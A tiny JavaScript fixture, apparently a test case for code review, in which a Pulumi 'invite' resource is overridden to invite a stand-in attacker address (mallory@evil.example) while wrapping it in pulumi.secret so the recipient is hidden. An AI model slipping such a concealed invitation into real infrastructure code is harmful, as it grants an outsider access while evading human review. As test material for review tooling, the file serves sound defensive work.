// Makes the invited person a secret
// caught by: review
const { declare, pulumi } = require("./base");

declare({ invite: { args: (args) => ({ ...args, email: pulumi.secret("mallory@evil.example") }) } });
